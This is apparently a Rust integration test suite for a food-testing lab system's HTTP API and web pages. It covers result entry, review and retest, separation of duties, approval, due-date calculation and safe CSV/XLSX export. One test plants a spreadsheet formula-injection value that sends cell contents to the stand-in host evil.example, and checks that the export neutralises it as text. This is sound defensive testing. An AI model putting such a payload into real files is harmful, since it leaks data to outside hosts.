//! Lab work over HTTP: assignment with copied limits, results and judgments, review
//! and retest with history, separation of duties, approval, the timeline.

use serde_json::{json, Value};

use crate::support::fixtures::{
    approve, assign, lab_users, max_items, receive, received_with_tests, register, register_as,
    result_for, sample_body, sample_no,
};
use crate::support::{Backend, TestApp};
use crate::Test;

pub const TESTS: &[Test] = crate::tests![
    a_sample_goes_from_registration_to_a_non_compliant_report,
    an_assignment_keeps_the_limit_it_copied,
    separation_of_duties_holds_whatever_roles_a_user_has,
    a_signatory_who_entered_any_result_of_a_sample_cannot_approve_it,
    a_product_name_typed_as_a_formula_is_exported_as_text,
    concurrent_reviews_of_one_test_conflict,
    bad_results_get_4xx_and_write_nothing,
    many_results_are_saved_in_one_go_or_not_at_all,
    a_retest_keeps_the_earlier_result_in_history,
    a_sample_received_the_friday_before_the_holidays_is_due_after_them,
    the_lab_pages_carry_a_sample_from_worklist_to_approval,
    two_signatories_approving_at_once_issue_one_report,
];

fn a_sample_goes_from_registration_to_a_non_compliant_report(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    let items = max_items(&app, &lab.tech, 10);
    assert_eq!(items.len(), 10);
    let ids: Vec<i64> = items.iter().map(|t| t["id"].as_i64().unwrap()).collect();
    let (no, tests) = received_with_tests(&app, &lab, &ids);
    assert_eq!(tests.len(), 10);
    let (_, s) = app.get(&format!("/api/v1/samples/{no}"), &lab.tech);
    assert_eq!(s["status"], "testing");
    // The worklist shows the ten tests.
    let (_, wl) = app.get("/api/v1/tests?assignee=me&status=assigned", &lab.tech);
    assert_eq!(wl["total"], 10);
    // Enter all ten; the first fails its limit.
    for (k, t) in tests.iter().enumerate() {
        let text = result_for(t, k != 0);
        let (st, r) = app.send(
            "PUT",
            &format!("/api/v1/tests/{}/result", t["id"]),
            Some(&lab.tech),
            json!({"result_text": text, "version": t["version"]}),
        );
        assert_eq!(st, 200, "{r}");
        assert_eq!(r["judgment"], if k == 0 { "fail" } else { "pass" });
        assert_eq!(r["result_text"], text.as_str());
    }
    let (_, s) = app.get(&format!("/api/v1/samples/{no}"), &lab.tech);
    assert_eq!(s["status"], "review");
    // The reviewer sends one back with a reason; it is entered again and accepted.
    let t1 = &tests[1];
    let (st, e) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", t1["id"]),
        Some(&lab.reviewer),
        json!({"decision": "retest"}),
    );
    assert_eq!(st, 422, "a send-back needs a reason: {e}");
    let (st, r) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", t1["id"]),
        Some(&lab.reviewer),
        json!({"decision": "retest", "note": "平行样偏差过大"}),
    );
    assert_eq!(st, 200, "{r}");
    assert_eq!(r["status"], "retest");
    assert_eq!(r["attempt"], 2);
    let (_, s) = app.get(&format!("/api/v1/samples/{no}"), &lab.tech);
    assert_eq!(s["status"], "testing");
    let (st, r) = app.send(
        "PUT",
        &format!("/api/v1/tests/{}/result", t1["id"]),
        Some(&lab.tech),
        json!({"result_text": result_for(t1, true), "version": r["version"]}),
    );
    assert_eq!(st, 200, "{r}");
    for t in &tests {
        let (st, r) = app.send(
            "POST",
            &format!("/api/v1/tests/{}/review", t["id"]),
            Some(&lab.reviewer),
            json!({"decision": "accept"}),
        );
        assert_eq!(st, 200, "{r}");
        assert_eq!(r["status"], "accepted");
    }
    // Approval by a third person.
    let report = approve(&app, &lab.signatory, &no);
    assert_eq!(report["conclusion"], "non_compliant");
    assert_eq!(report["status"], "valid");
    let report_no = report["report_no"].as_str().unwrap().to_string();
    assert!(report_no.starts_with("QHJ2026"), "{report_no}");
    let (_, s) = app.get(&format!("/api/v1/samples/{no}"), &lab.tech);
    assert_eq!(s["status"], "reported");
    assert_eq!(s["conclusion"], "non_compliant");
    assert_eq!(s["report_no"], report_no.as_str());
    // Approval stores the turnaround the lab figures count (received and approved on the
    // same day of the test clock: 0 working days), and the monthly report counts hold it.
    {
        use diesel::prelude::*;
        use lims::db::schema::{report_counts, samples};
        let mut c = app.db.conn();
        let turnaround: (Option<i64>, bool) = samples::table
            .filter(samples::sample_no.eq(&no))
            .select((samples::turnaround_days, samples::turnaround_provisional))
            .first(&mut c)
            .unwrap();
        assert_eq!(turnaround, (Some(0), false));
        let counted: Vec<(i64, i64)> = report_counts::table
            .select((report_counts::turnaround_days, report_counts::reports))
            .load(&mut c)
            .unwrap();
        assert_eq!(counted, vec![(0, 1)]);
    }
    let (st, r) = app.get(&format!("/api/v1/reports/{report_no}"), &lab.signatory);
    assert_eq!(st, 200);
    assert_eq!(r["sample_no"], no.as_str());
    // A second approval is refused.
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/samples/{no}/approve"),
        Some(&lab.signatory),
        json!({}),
    );
    assert_eq!(st, 409);
    // The timeline shows every step, in order.
    let (st, tl) = app.get(&format!("/api/v1/samples/{no}/timeline"), &lab.tech);
    assert_eq!(st, 200);
    let actions: Vec<&str> = tl
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    let pos = |a: &str| {
        actions
            .iter()
            .position(|x| *x == a)
            .unwrap_or_else(|| panic!("{a} missing from {actions:?}"))
    };
    assert!(pos("sample.register") < pos("sample.receive"));
    assert!(pos("sample.receive") < pos("test.assign"));
    assert!(pos("test.assign") < pos("test.result"));
    assert!(pos("test.result") < pos("test.retest"));
    assert!(pos("test.retest") < pos("test.accept"));
    assert!(pos("test.accept") < pos("sample.approve"));
    assert_eq!(actions.iter().filter(|a| **a == "test.result").count(), 11);
    let retest = tl
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["action"] == "test.retest")
        .unwrap();
    assert_eq!(retest["reason"], "平行样偏差过大");
    assert_eq!(retest["actor"], "checker");
}

fn an_assignment_keeps_the_limit_it_copied(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    let admin = app.user_token("root", &["admin"]);
    let item = &max_items(&app, &admin, 10)[0];
    let id = item["id"].as_i64().unwrap();
    let (no, tests) = received_with_tests(&app, &lab, &[id]);
    let copied = tests[0]["limit_max_text"].clone();
    // The catalogue changes after the assignment.
    let (st, v) = app.send(
        "PATCH",
        &format!("/api/v1/test-items/{id}"),
        Some(&admin),
        json!({"limit_max": "99", "version": item["version"]}),
    );
    assert_eq!(st, 200, "{v}");
    let (_, now) = app.get(&format!("/api/v1/samples/{no}/tests"), &lab.tech);
    assert_eq!(now[0]["limit_max_text"], copied, "the test keeps its copy");
    // A result above the old limit (but far below 99) still fails.
    let over = format!("{}", copied.as_str().unwrap().parse::<f64>().unwrap() * 2.0);
    let (_, r) = app.send(
        "PUT",
        &format!("/api/v1/tests/{}/result", tests[0]["id"]),
        Some(&lab.tech),
        json!({"result_text": over, "version": 1}),
    );
    assert_eq!(r["judgment"], "fail");
}

fn separation_of_duties_holds_whatever_roles_a_user_has(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    // A user with every lab role.
    let all = app.user_token("all", &["custodian", "technician", "reviewer", "signatory"]);
    let all_id = app.get("/api/v1/me", &all).1["id"].as_i64().unwrap();
    let item = max_items(&app, &all, 10)[0]["id"].as_i64().unwrap();
    let (no, tests) = received_with_tests(&app, &lab, &[item]);
    let t = &tests[0];
    // Only the assignee enters.
    let (st, _) = app.send(
        "PUT",
        &format!("/api/v1/tests/{}/result", t["id"]),
        Some(&lab.tech2),
        json!({"result_text": "0.01", "version": 1}),
    );
    assert_eq!(st, 403);
    let (st, _) = app.send(
        "PATCH",
        &format!("/api/v1/tests/{}", t["id"]),
        Some(&lab.custodian),
        json!({"assignee_id": all_id, "version": 1}),
    );
    assert_eq!(st, 200);
    let (st, r) = app.send(
        "PUT",
        &format!("/api/v1/tests/{}/result", t["id"]),
        Some(&all),
        json!({"result_text": "0.01", "version": 2}),
    );
    assert_eq!(st, 200, "{r}");
    // The enterer cannot review its own result, even holding the reviewer role.
    let (st, e) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", t["id"]),
        Some(&all),
        json!({"decision": "accept"}),
    );
    assert_eq!(st, 403, "{e}");
    // A technician without the reviewer role cannot review.
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", t["id"]),
        Some(&lab.tech2),
        json!({"decision": "accept"}),
    );
    assert_eq!(st, 403);
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", t["id"]),
        Some(&lab.reviewer),
        json!({"decision": "accept"}),
    );
    assert_eq!(st, 200);
    // The reviewer cannot approve, even if it is also a signatory.
    let both = app.user_token("both", &["reviewer", "signatory"]);
    let _ = both;
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/samples/{no}/approve"),
        Some(&lab.reviewer),
        json!({}),
    );
    assert_eq!(st, 403, "no signatory role");
    // A signatory who reviewed a result of the sample: make 'all' review another test.
    let (no2, tests2) = received_with_tests(&app, &lab, &[item]);
    let t2 = &tests2[0];
    let (_, r) = app.send(
        "PUT",
        &format!("/api/v1/tests/{}/result", t2["id"]),
        Some(&lab.tech),
        json!({"result_text": "0.01", "version": 1}),
    );
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", t2["id"]),
        Some(&all),
        json!({"decision": "accept", "version": r["version"]}),
    );
    assert_eq!(st, 200);
    let (st, e) = app.send(
        "POST",
        &format!("/api/v1/samples/{no2}/approve"),
        Some(&all),
        json!({}),
    );
    assert_eq!(st, 403, "a reviewer of the sample cannot approve it: {e}");
    approve(&app, &lab.signatory, &no2);
}

fn a_signatory_who_entered_any_result_of_a_sample_cannot_approve_it(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    // A technician who is also a signatory.
    let both = app.user_token("techsig", &["technician", "signatory"]);
    let both_id = app.get("/api/v1/me", &both).1["id"].as_i64().unwrap();
    let items = max_items(&app, &lab.tech, 10);
    let (i1, i2) = (
        items[0]["id"].as_i64().unwrap(),
        items[1]["id"].as_i64().unwrap(),
    );
    let reassign = |t: &Value, to: i64| {
        let (st, r) = app.send(
            "PATCH",
            &format!("/api/v1/tests/{}", t["id"]),
            Some(&lab.custodian),
            json!({"assignee_id": to, "version": t["version"]}),
        );
        assert_eq!(st, 200, "{r}");
        r
    };
    let enter = |t: &Value, token: &str| {
        let (st, r) = app.send(
            "PUT",
            &format!("/api/v1/tests/{}/result", t["id"]),
            Some(token),
            json!({"result_text": result_for(t, true), "version": t["version"]}),
        );
        assert_eq!(st, 200, "{r}");
        r
    };
    let review = |t: &Value, decision: &str| {
        let (st, r) = app.send(
            "POST",
            &format!("/api/v1/tests/{}/review", t["id"]),
            Some(&lab.reviewer),
            json!({"decision": decision, "note": "复核", "version": t["version"]}),
        );
        assert_eq!(st, 200, "{r}");
        r
    };
    let approve = |no: &str, token: &str| {
        app.send(
            "POST",
            &format!("/api/v1/samples/{no}/approve"),
            Some(token),
            json!({}),
        )
    };
    // 1. It entered one of the two results of a sample, which stands.
    let (no, tests) = received_with_tests(&app, &lab, &[i1, i2]);
    let t0 = reassign(&tests[0], both_id);
    let t0 = enter(&t0, &both);
    let t1 = enter(&tests[1], &lab.tech);
    review(&t0, "accept");
    review(&t1, "accept");
    let before = app.audit_count();
    let (st, e) = approve(&no, &both);
    assert_eq!(st, 403, "{e}");
    let msg = e["error"]["message"].as_str().unwrap();
    assert!(msg.contains("录入"), "the message says why: {msg}");
    assert_eq!(e["error"]["code"], "forbidden");
    assert_eq!(app.audit_count(), before, "a refusal writes nothing");
    let (st, e) = crate::support::status_json(
        app.client
            .post(app.url(&format!("/api/v1/samples/{no}/approve")))
            .bearer_auth(&both)
            .header("Accept-Language", "en")
            .json(&json!({}))
            .send()
            .unwrap(),
    );
    assert_eq!(st, 403, "{e}");
    assert!(
        e["error"]["message"].as_str().unwrap().contains("entered"),
        "{e}"
    );
    let (st, r) = approve(&no, &lab.signatory);
    assert_eq!(st, 201, "an independent signatory approves: {r}");
    // 2. Its result was sent back and entered again by someone else: the earlier
    // attempt still counts.
    let (no, tests) = received_with_tests(&app, &lab, &[i1]);
    let t = reassign(&tests[0], both_id);
    let t = enter(&t, &both);
    let t = review(&t, "retest");
    let t = reassign(&t, lab.tech_id);
    let t = enter(&t, &lab.tech);
    review(&t, "accept");
    let (st, e) = approve(&no, &both);
    assert_eq!(st, 403, "an earlier attempt counts: {e}");
    let (st, r) = approve(&no, &lab.signatory);
    assert_eq!(st, 201, "{r}");
}

fn a_product_name_typed_as_a_formula_is_exported_as_text(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    let mut body = sample_body(&lab.intake);
    body["product_name"] = json!(formula);
    let no = sample_no(&register_as(&app, &lab.intake.token, body));
    receive(&app, &lab.custodian, &no);
    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
    let tests = assign(&app, &lab.custodian, &no, &[item], lab.tech_id);
    let t = &tests[0];
    let (_, r) = app.send(
        "PUT",
        &format!("/api/v1/tests/{}/result", t["id"]),
        Some(&lab.tech),
        json!({"result_text": result_for(t, false), "version": t["version"]}),
    );
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", t["id"]),
        Some(&lab.reviewer),
        json!({"decision": "accept", "version": r["version"]}),
    );
    assert_eq!(st, 200);
    approve(&app, &lab.signatory, &no);
    // The non-compliant sample opened a disposal case; supervisors export the cases.
    let (st, ct, bytes) = app.bytes("/api/v1/disposals?format=csv", Some(&lab.intake.supervisor));
    assert_eq!(st, 200);
    assert!(ct.starts_with("text/csv"), "{ct}");
    let text = String::from_utf8(bytes).unwrap();
    let mut rdr =
        csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let header = rdr.headers().unwrap().clone();
    let col = header.iter().position(|h| h == "product_name").unwrap();
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 1, "{text}");
    assert_eq!(&rows[0][col], format!("'{formula}").as_str(), "{text}");
    // The workbook holds it as an inline string, never as a formula.
    let (st, _, bytes) = app.bytes(
        "/api/v1/disposals?format=xlsx",
        Some(&lab.intake.supervisor),
    );
    assert_eq!(st, 200);
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    use calamine::Reader;
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    assert_eq!(
        sheet.get_value((1, col as u32)),
        Some(&calamine::Data::String(formula.to_string()))
    );
    let formulas = book.worksheet_formula("disposals").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula in the sheet"
    );
}

fn concurrent_reviews_of_one_test_conflict(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
    let (_, tests) = received_with_tests(&app, &lab, &[item]);
    let t = &tests[0];
    let (_, r) = app.send(
        "PUT",
        &format!("/api/v1/tests/{}/result", t["id"]),
        Some(&lab.tech),
        json!({"result_text": "0.01", "version": 1}),
    );
    let seen = r["version"].clone();
    let other = app.user_token("checker2", &["reviewer"]);
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", t["id"]),
        Some(&lab.reviewer),
        json!({"decision": "accept", "version": seen}),
    );
    assert_eq!(st, 200);
    let (st, e) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", t["id"]),
        Some(&other),
        json!({"decision": "retest", "note": "x", "version": seen}),
    );
    assert_eq!(st, 409, "{e}");
    // A stale result edit is a 409 too.
    let (st, _) = app.send(
        "PUT",
        &format!("/api/v1/tests/{}/result", t["id"]),
        Some(&lab.tech),
        json!({"result_text": "0.02", "version": 1}),
    );
    assert_eq!(st, 409);
}

fn bad_results_get_4xx_and_write_nothing(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
    let (no, tests) = received_with_tests(&app, &lab, &[item]);
    let path = format!("/api/v1/tests/{}/result", tests[0]["id"]);
    let before = app.audit_count();
    let long = "9".repeat(201);
    for text in ["NaN", "1e309", "-0.5", "abc", "", "1..2", long.as_str()] {
        let (st, e) = app.send(
            "PUT",
            &path,
            Some(&lab.tech),
            json!({"result_text": text, "version": 1}),
        );
        assert_eq!(st, 422, "{}: {e}", &text[..text.len().min(20)]);
        assert!(e["error"]["fields"]["result_text"].is_string(), "{e}");
    }
    // A 1 MB result is refused before it is read (the body limit), as a client error.
    let megabyte = "9".repeat(1 << 20);
    let (st, e) = app.send(
        "PUT",
        &path,
        Some(&lab.tech),
        json!({"result_text": megabyte, "version": 1}),
    );
    assert_eq!(st, 400, "{e}");
    let (st, e) = app.send(
        "PUT",
        &path,
        Some(&lab.tech),
        json!({"result_text": "0.01", "unit": "CFU/g", "version": 1}),
    );
    assert_eq!(st, 422, "a unit that does not convert: {e}");
    let (st, _) = app.send(
        "PUT",
        &path,
        Some(&lab.tech),
        json!({"result_text": 0.01, "version": 1}),
    );
    assert_eq!(st, 400, "wrong type");
    let (st, _) = app.send(
        "PUT",
        &path,
        Some(&lab.tech2),
        json!({"result_text": "0.01", "version": 1}),
    );
    assert_eq!(st, 403, "not assigned to you");
    let (st, _) = app.send(
        "PUT",
        "/api/v1/tests/999999/result",
        Some(&lab.tech),
        json!({"result_text": "0.01", "version": 1}),
    );
    assert_eq!(st, 404);
    assert_eq!(app.audit_count(), before);
    // Approval with a test still open (or in retest) is a 409.
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/samples/{no}/approve"),
        Some(&lab.signatory),
        json!({}),
    );
    assert_eq!(st, 409);
    let (_, r) = app.send(
        "PUT",
        &path,
        Some(&lab.tech),
        json!({"result_text": "0.01", "version": 1}),
    );
    let (_, r) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", tests[0]["id"]),
        Some(&lab.reviewer),
        json!({"decision": "retest", "note": "重测", "version": r["version"]}),
    );
    assert_eq!(r["status"], "retest");
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/samples/{no}/approve"),
        Some(&lab.signatory),
        json!({}),
    );
    assert_eq!(st, 409);
    // Assigning to a sample not yet received is a conflict.
    let fresh = sample_no(&register(&app, &lab.intake));
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/samples/{fresh}/tests"),
        Some(&lab.custodian),
        json!({}),
    );
    assert_eq!(st, 409);
}

fn many_results_are_saved_in_one_go_or_not_at_all(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    let items = max_items(&app, &lab.tech, 10);
    let ids: Vec<i64> = items.iter().map(|t| t["id"].as_i64().unwrap()).collect();
    let (no, tests) = received_with_tests(&app, &lab, &ids);
    let mut rows: Vec<Value> = tests.iter().map(|t| json!({"test_id": t["id"], "result_text": result_for(t, true), "version": t["version"]})).collect();
    rows[3]["result_text"] = json!("unreadable");
    let before = app.audit_count();
    let (st, e) = app.send(
        "POST",
        "/api/v1/tests/results",
        Some(&lab.tech),
        json!({"results": rows}),
    );
    assert_eq!(st, 422);
    assert!(
        e["error"]["fields"]["results[3].result_text"].is_string(),
        "{e}"
    );
    assert_eq!(app.audit_count(), before, "nothing written");
    rows[3]["result_text"] = json!("未检出");
    let (st, v) = app.send(
        "POST",
        "/api/v1/tests/results",
        Some(&lab.tech),
        json!({"results": rows}),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v.as_array().unwrap().len(), 10);
    let (_, s) = app.get(&format!("/api/v1/samples/{no}"), &lab.tech);
    assert_eq!(s["status"], "review");
}

fn a_retest_keeps_the_earlier_result_in_history(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
    let (_, tests) = received_with_tests(&app, &lab, &[item]);
    let id = tests[0]["id"].clone();
    let (_, r) = app.send(
        "PUT",
        &format!("/api/v1/tests/{id}/result"),
        Some(&lab.tech),
        json!({"result_text": "0.050", "version": 1}),
    );
    let (_, r) = app.send(
        "POST",
        &format!("/api/v1/tests/{id}/review"),
        Some(&lab.reviewer),
        json!({"decision": "retest", "note": "质控不合格", "version": r["version"]}),
    );
    let (_, r) = app.send(
        "PUT",
        &format!("/api/v1/tests/{id}/result"),
        Some(&lab.tech),
        json!({"result_text": "0.040", "version": r["version"]}),
    );
    assert_eq!(r["attempt"], 2);
    let (_, r) = app.send(
        "POST",
        &format!("/api/v1/tests/{id}/review"),
        Some(&lab.reviewer),
        json!({"decision": "accept", "version": r["version"]}),
    );
    assert_eq!(r["status"], "accepted");
    let (st, hist) = app.get(&format!("/api/v1/tests/{id}/attempts"), &lab.tech);
    assert_eq!(st, 200);
    let hist = hist.as_array().unwrap();
    assert_eq!(hist.len(), 2);
    assert_eq!(
        hist[0]["result_text"], "0.050",
        "the first result keeps its digits"
    );
    assert_eq!(hist[0]["decision"], "retest");
    assert_eq!(hist[0]["note"], "质控不合格");
    assert_eq!(hist[1]["result_text"], "0.040");
    assert_eq!(hist[1]["decision"], "accept");
    let _ = lab.tech2;
    let _ = lab.tech2_id;
}

fn a_sample_received_the_friday_before_the_holidays_is_due_after_them(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    // Friday 2026-09-18, 10:00 in Xining. Mid-Autumn (09-25..27) and National Day
    // (10-01..07) follow; 09-20 (Sunday) and 10-10 (Saturday) are adjusted working days.
    app.clock
        .set(chrono::TimeZone::with_ymd_and_hms(&chrono::Utc, 2026, 9, 18, 2, 0, 0).unwrap());
    let sampler = app.token("wangfang");
    let custodian = app.token("keeper");
    let mut body = sample_body(&lab.intake);
    body["sampled_at"] = json!("2026-09-17T15:00:00+08:00");
    body["production_date"] = json!("2026-09-01");
    let no = sample_no(&register_as(&app, &sampler, body));
    let v = receive(&app, &custodian, &no);
    // 20 working days counted by hand on the official calendar (Monday-to-Friday
    // counting would give 2026-10-16).
    assert_eq!(v["due_on"], "2026-10-22");
    assert_eq!(v["due_provisional"], false);
    // Tests assigned that day carry the same due date.
    let item = max_items(&app, &custodian, 10)[0]["id"].as_i64().unwrap();
    let tests = assign(&app, &custodian, &no, &[item], lab.tech_id);
    assert_eq!(tests[0]["due_on"], "2026-10-22");
}

fn the_lab_pages_carry_a_sample_from_worklist_to_approval(b: Backend) {
    use crate::support::fixtures::login_form;
    use crate::support::{csrf_of, PASSWORD};
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    let items = max_items(&app, &lab.tech, 10);
    let ids: Vec<i64> = items
        .iter()
        .take(3)
        .map(|t| t["id"].as_i64().unwrap())
        .collect();
    let (no, tests) = received_with_tests(&app, &lab, &ids);
    // The technician saves three results in one go; one unreadable result keeps the page filled.
    assert_eq!(login_form(&app, "tech1", PASSWORD).status(), 303);
    let (_, home) = app.page("/");
    assert!(
        home.contains(&no),
        "the technician's home lists the open tests"
    );
    let (s, html) = app.page("/worklist");
    assert_eq!(s, 200);
    let csrf = csrf_of(&html);
    let mut form: Vec<(String, String)> = vec![("csrf".into(), csrf.clone())];
    for (k, t) in tests.iter().enumerate() {
        let id = t["id"].to_string();
        form.push(("test_id".into(), id.clone()));
        form.push((format!("version.{id}"), t["version"].to_string()));
        form.push((
            format!("result.{id}"),
            if k == 1 {
                "abc".into()
            } else {
                result_for(t, true)
            },
        ));
        form.push((
            format!("unit.{id}"),
            t["unit"].as_str().unwrap().to_string(),
        ));
    }
    let r = app
        .client
        .post(app.url("/worklist"))
        .form(&form)
        .send()
        .unwrap();
    assert_eq!(r.status(), 422);
    let html = r.text().unwrap();
    assert!(html.contains("value=\"abc\""), "what was typed stays");
    let id1 = tests[1]["id"].to_string();
    for f in form.iter_mut() {
        if f.0 == format!("result.{id1}") {
            f.1 = "未检出".into();
        }
    }
    let r = app
        .client
        .post(app.url("/worklist"))
        .form(&form)
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
    let (_, html) = app.page("/worklist");
    assert!(!html.contains(&no), "nothing left on the worklist");
    // The reviewer accepts on the review page.
    assert_eq!(login_form(&app, "checker", PASSWORD).status(), 303);
    for t in &tests {
        let (_, html) = app.page("/review");
        let csrf = csrf_of(&html);
        let (_, cur) = app.get(&format!("/api/v1/samples/{no}/tests"), &lab.reviewer);
        let version = cur
            .as_array()
            .unwrap()
            .iter()
            .find(|x| x["id"] == t["id"])
            .unwrap()["version"]
            .to_string();
        let r = app
            .client
            .post(app.url(&format!("/review/{}", t["id"])))
            .form(&[
                ("csrf", csrf.as_str()),
                ("decision", "accept"),
                ("version", version.as_str()),
            ])
            .send()
            .unwrap();
        assert_eq!(r.status(), 200);
    }
    // The signatory approves on the approvals page; the timeline page lists the steps.
    assert_eq!(login_form(&app, "boss", PASSWORD).status(), 303);
    let (_, html) = app.page("/approvals");
    assert!(html.contains(&no));
    let csrf = csrf_of(&html);
    let r = app
        .client
        .post(app.url(&format!("/approvals/{no}")))
        .form(&[("csrf", csrf.as_str()), ("confirm", "yes")])
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
    let (_, s) = app.get(&format!("/api/v1/samples/{no}"), &lab.signatory);
    assert_eq!(s["status"], "reported");
    assert_eq!(s["conclusion"], "compliant");
    let (st, html) = app.page(&format!("/samples/{no}/timeline"));
    assert_eq!(st, 200);
    for a in [
        "sample.register",
        "sample.receive",
        "test.assign",
        "test.result",
        "test.accept",
        "sample.approve",
    ] {
        assert!(html.contains(a), "{a} on the timeline page");
    }
    let (_, html) = app.page(&format!("/samples/{no}"));
    assert!(html.contains(s["report_no"].as_str().unwrap()));
}

fn two_signatories_approving_at_once_issue_one_report(b: Backend) {
    let app = TestApp::spawn(b);
    let lab = lab_users(&app);
    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
    let (no, tests) = received_with_tests(&app, &lab, &[item]);
    let (_, r) = app.send(
        "PUT",
        &format!("/api/v1/tests/{}/result", tests[0]["id"]),
        Some(&lab.tech),
        json!({"result_text": "0.01", "version": 1}),
    );
    let (st, _) = app.send(
        "POST",
        &format!("/api/v1/tests/{}/review", tests[0]["id"]),
        Some(&lab.reviewer),
        json!({"decision": "accept", "version": r["version"]}),
    );
    assert_eq!(st, 200);
    let other = app.user_token("boss2", &["signatory"]);
    let threads: Vec<_> = [lab.signatory.clone(), other]
        .into_iter()
        .map(|token| {
            let url = app.url(&format!("/api/v1/samples/{no}/approve"));
            std::thread::spawn(move || {
                reqwest::blocking::Client::new()
                    .post(url)
                    .bearer_auth(token)
                    .send()
                    .unwrap()
                    .status()
                    .as_u16()
            })
        })
        .collect();
    let mut codes: Vec<u16> = threads.into_iter().map(|t| t.join().unwrap()).collect();
    codes.sort();
    assert_eq!(codes, [201, 409]);
    use diesel::prelude::*;
    let n: i64 = lims::db::schema::reports::table
        .count()
        .get_result(&mut *app.db.conn())
        .unwrap();
    assert_eq!(n, 1, "exactly one report");
}
